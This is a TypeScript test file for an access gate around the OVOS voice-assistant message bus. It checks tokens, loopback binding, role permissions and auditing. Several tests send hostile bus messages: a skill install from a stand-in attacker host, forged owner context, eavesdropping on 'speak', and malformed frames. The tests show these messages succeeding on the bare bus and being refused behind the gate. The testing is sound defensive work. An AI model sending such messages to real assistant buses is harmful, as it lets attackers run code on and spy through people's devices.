/* The message bus of OVOS, from PyPI, with its own client unmodified: as it is alone, where everybody may do everything, and behind the door. */
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import getPort from 'get-port';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { WebSocket } from 'ws';
import { holds, listenersOn } from '../../src/main/core/profiles/custom/listeners.ts';
import type { NewShareLink } from '../../src/shared/sharing.ts';
import { bareBus } from '../support/bus.ts';
import { openBusRoom, type BusRoom } from '../support/bus-room.ts';
import { eventually, toolUrl } from '../support/core.ts';
import { Guest } from '../support/guest.ts';
import { runPlan } from '../support/run-plan.ts';

let room: BusRoom;
beforeAll(async () => {
  room = await openBusRoom();
});
afterAll(() => room?.close());

test('MycroftAI-RCE, the bus alone: whoever reaches it installs a skill, speaks as the owner and reads along', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'bare-bus-'));
  const port = await getPort();
  const bus = await bareBus(room.python, folder, port);
  const place = { host: '127.0.0.1', port, route: '/core', ssl: false };
  try {
    const owner = await room.client({ ...place, assistant: true }).open();
    expect((await listenersOn(port, process.platform)).map(({ reach }) => reach)).toContain('any');
    const stranger = await room.client(place).open();
    stranger.send('ovos.skills.install', { url: 'https://evil.example/skill' });
    await eventually('the skill is installed', 10_000, async () => owner.installed.length > 0);
    const forged = { source: 'audio', session: { session_id: 'default' } };
    stranger.send('recognizer_loop:utterance', { utterances: ['open the door'] }, forged);
    const heard = await owner.sees('recognizer_loop:utterance');
    expect(heard.context).toMatchObject(forged);
    owner.send('speak', { utterance: 'the code is 4711' });
    await stranger.sees('speak', ({ data }) => data['utterance'] === 'the code is 4711');
  } finally {
    bus.kill('SIGTERM');
    if (bus.exitCode === null) await once(bus, 'exit');
    await rm(folder, { recursive: true, force: true });
  }
});

test('behind the door it listens on no network, whatever its configuration says, and keeps the rest of it', async () => {
  expect(room.served.server.title).toMatch(/^OVOS message bus/);
  const pid = room.served.server.pid ?? 0;
  const held = await Promise.all(
    (await listenersOn(null, process.platform)).map(listener => holds([pid], listener)),
  );
  expect(held).not.toContain(true);
  expect(await listenersOn(room.configured, process.platform)).toEqual([]);
  const argv = await readFile(`/proc/${pid}/cmdline`, 'utf8');
  const environment = await readFile(`/proc/${pid}/environ`, 'utf8');
  expect(argv + environment).not.toContain(await room.served.token());
  // max_msg_size of the user's own configuration, in megabytes.
  const owner = new WebSocket(
    `${toolUrl(room.served.server).replace('http', 'ws')}core/${await room.served.token()}`,
  );
  await once(owner, 'open');
  owner.send(JSON.stringify({ type: 'long', data: { text: 'x'.repeat(1_200_000) }, context: {} }));
  const [code] = (await once(owner, 'close')) as [number];
  expect(code).toBe(1009);
});

test('on a port it is bound to this computer alone, and a bus that is not is never called ready', async () => {
  const { plan, place } = await room.onPort();
  const held = runPlan(plan, place.home);
  try {
    expect(await held.proof()).toEqual({ kind: 'ours' });
    expect((await listenersOn(place.port, process.platform)).map(({ reach }) => reach)).toEqual(['loopback']);
    expect(plan.caveat?.()).toMatch(/other accounts/);
    held.child.kill('SIGTERM');
    expect(await held.ended).toBe(0);
  } finally {
    await held.kill();
  }
  const bare = { ...plan, argv: [join(dirname(room.python), 'ovos-messagebus')] };
  const open = runPlan(bare, place.home);
  try {
    expect(await open.proof()).toEqual({ kind: 'foreign', detail: expect.stringContaining('network') });
  } finally {
    await open.kill();
    await place.remove();
  }
});

test('nobody comes in without the token, and nobody with a token in a wrong place', async () => {
  const token = await room.served.token();
  const basic = `Basic ${Buffer.from(`${token}:`).toString('base64')}`;
  expect(await room.statusOf('core')).toBe(401);
  expect(await room.statusOf(`core/${'x'.repeat(43)}`)).toBe(401);
  expect(await room.statusOf(`core/${token}`)).toBe(101);
  expect(await room.statusOf(`core?token=${token}`)).toBe(101);
  expect(await room.statusOf('core', { authorization: basic })).toBe(101);
});

test('an unmodified client is a satellite over wss: it asks, it is answered, and its name is not its own word', async () => {
  const link = await room.share('editor', 'kitchen');
  const satellite = await room.guest(link, 'SSL_CERT_FILE');
  satellite.send(
    'recognizer_loop:utterance',
    { utterances: ['what time is it'], lang: 'en-us' },
    {
      source: 'audio',
      destination: 'audio',
      client_name: 'owner',
      session: { session_id: 'default', lang: 'en-us' },
    },
  );
  const spoken = await satellite.sees('speak');
  expect(spoken.data['utterance']).toBe('you said what time is it');
  const heard = await room.assistant.sees('recognizer_loop:utterance', ({ data }) =>
    String(data['utterances']).includes('what time'),
  );
  const [person] = (await room.core.call('share.people')).filter(one => one.link === link.id);
  const name = `guest-${person?.session}`;
  expect(heard.context).toMatchObject({
    source: name,
    destination: 'skills',
    client_name: 'kitchen (guest)',
    session: { session_id: name, lang: 'en-us' },
  });
});

test('MycroftAI-RCE, through the door of a satellite: refused, and audited', async () => {
  const link = await room.share('editor', 'hallway');
  const other = await room.guest(await room.share('editor', 'bedroom'), 'SSL_CERT_FILE');
  const attacker = await room.guest(link, 'WEBSOCKET_CLIENT_CA_BUNDLE');
  attacker.send('ovos.skills.install', { url: 'https://evil.example/skill' });
  attacker.send('configuration.patch', { config: { listener: {} } });
  attacker.send('speak', { utterance: 'I am the house' }, { destination: ['audio'] });
  const refused = await attacker.sees('gatehouse.refused', ({ data }) => data['type'] === 'speak');
  expect(refused.data['reason']).toMatch(/does not permit/);
  other.send('recognizer_loop:utterance', { utterances: ['my secret is 4711'] });
  await other.sees('speak', ({ data }) => data['utterance'] === 'you said my secret is 4711');
  room.assistant.send('speak', { utterance: 'the code is 4711' });
  // What the attacker asks last is answered last: nothing of the above is still on its way.
  attacker.send('recognizer_loop:utterance', { utterances: ['the end'] });
  await attacker.sees('speak', ({ data }) => data['utterance'] === 'you said the end');
  expect(JSON.stringify(attacker.got)).not.toContain('4711');
  expect(room.assistant.installed).toEqual([]);
  expect(room.assistant.ofType('configuration.patch')).toEqual([]);
  expect(JSON.stringify(room.assistant.got)).not.toContain('I am the house');
  const audited = await room.refusals(link);
  expect(audited).toEqual(
    expect.arrayContaining([
      expect.stringContaining('ovos.skills.install'),
      expect.stringContaining('configuration.patch'),
      expect.stringContaining('speak: the link does not permit'),
      expect.stringContaining('messages that are for others'),
    ]),
  );
});

test('an unmodified client is an observer over wss: it reads what the link names, and says nothing', async () => {
  const link = await room.share('viewer', 'wall', { receive: ['speak', 'mycroft.skill.*'] });
  expect(link.permissions).toEqual({ send: [], receive: ['speak', 'mycroft.skill.*'] });
  const observer = await room.guest(link, 'WEBSOCKET_CLIENT_CA_BUNDLE');
  room.assistant.send('mycroft.volume.set', { percent: 1 });
  room.assistant.send('mycroft.skill.handler.start', { name: 'Clock' });
  room.assistant.send('speak', { utterance: 'it is noon' });
  await observer.sees('speak', ({ data }) => data['utterance'] === 'it is noon');
  expect(observer.ofType('mycroft.skill.handler.start')).toHaveLength(1);
  expect(observer.ofType('mycroft.volume.set')).toEqual([]);
  observer.send('recognizer_loop:utterance', { utterances: ['viewers do not speak'] });
  await observer.sees('gatehouse.refused', ({ data }) => data['type'] === 'recognizer_loop:utterance');
  room.assistant.send('speak', { utterance: 'later' });
  await observer.sees('speak', ({ data }) => data['utterance'] === 'later');
  expect(JSON.stringify(room.assistant.got)).not.toContain('viewers do not speak');
  expect(await room.refusals(link)).toContainEqual(expect.stringContaining('recognizer_loop:utterance'));
});

test('full installs skills, but speaks as nobody else; frames of two readings, encrypted and binary ones are refused', async () => {
  const link = await room.share('full', 'the other developer');
  const visitor = new Guest(link.url, await readFile(room.authority, 'utf8'));
  await visitor.join('audio');
  const socket = visitor.socket('/core');
  const answers: { type: string; data: { reason?: string } }[] = [];
  socket.on('message', (data: Buffer) => answers.push(JSON.parse(data.toString('utf8'))));
  await once(socket, 'open');
  const forged = { source: 'audio', session: { session_id: 'default' } };
  socket.send(JSON.stringify({ type: 'ovos.skills.install', data: { url: 'x' }, context: forged }));
  const heard = await room.assistant.sees('ovos.skills.install', ({ data }) => data['url'] === 'x');
  expect(heard.context['source']).toMatch(/^guest-[\da-f]{12}$/);
  expect(heard.context.session).toEqual({ session_id: heard.context['source'] });
  socket.send('{"type": "speak", "type": "twice", "data": {}, "context": {}}');
  socket.send(JSON.stringify({ ciphertext: 'ab', tag: 'cd', nonce: 'ef' }));
  socket.send(Buffer.from('{"type": "binary"}'));
  socket.send(`{"type": "deep", "data": {"x": ${'['.repeat(100)}${']'.repeat(100)}}}`);
  socket.send(JSON.stringify({ type: 'last', data: {}, context: {} }));
  await room.assistant.sees('last');
  const reasons = answers.filter(({ type }) => type === 'gatehouse.refused').map(({ data }) => data.reason);
  expect(reasons).toEqual([
    expect.stringContaining('one name twice'),
    expect.stringContaining('encrypted'),
    expect.stringContaining('binary'),
    expect.stringContaining('nested too deep'),
  ]);
  const types = new Set(room.assistant.got.map(({ type }) => type));
  expect(['twice', 'binary', 'deep'].filter(type => types.has(type))).toEqual([]);
  socket.terminate();
});

test('a guest reaches nothing but the socket, and a link that is taken back closes it', async () => {
  const link = await room.share('full', 'short visit');
  const visitor = new Guest(link.url, await readFile(room.authority, 'utf8'));
  await visitor.join('Ada');
  for (const path of ['/', '/core', '/core/', '/elsewhere']) {
    expect([path, (await visitor.page(path)).status]).toEqual([path, 403]);
  }
  const socket = visitor.socket('/core');
  await once(socket, 'open');
  const closed = once(socket, 'close');
  await room.core.call('share.revoke', link.id);
  await closed;
  expect((await visitor.page('/core').catch(() => ({ status: 0 }))).status).not.toBe(200);
});

test('the command line says types, shows them, and refuses what a role cannot have', async () => {
  const made = await room.home.json<NewShareLink>(
    'share',
    room.served.server.id,
    '--role',
    'editor',
    '--send',
    'recognizer_loop:utterance',
    '--receive=speak,mycroft.skill.*',
    '--listen=127.0.0.1',
    '--for=garage',
  );
  expect(made.permissions).toEqual({
    send: ['recognizer_loop:utterance'],
    receive: ['speak', 'mycroft.skill.*'],
  });
  const { out } = await room.home.cli('links');
  expect(out).toContain(`${made.id}  may send: recognizer_loop:utterance`);
  const wrong = await room.home.cli(
    'share',
    room.served.server.id,
    '--role',
    'viewer',
    '--send',
    'speak',
    '--yes',
  );
  expect([wrong.code, wrong.err]).toEqual([2, expect.stringContaining('sends nothing')]);
  const wide = await room.home.cli(
    'share',
    room.served.server.id,
    '--role',
    'editor',
    '--send',
    'ovos.skills.install',
  );
  expect([wide.code, wide.err]).toEqual([4, expect.stringContaining('run any code as you')]);
});
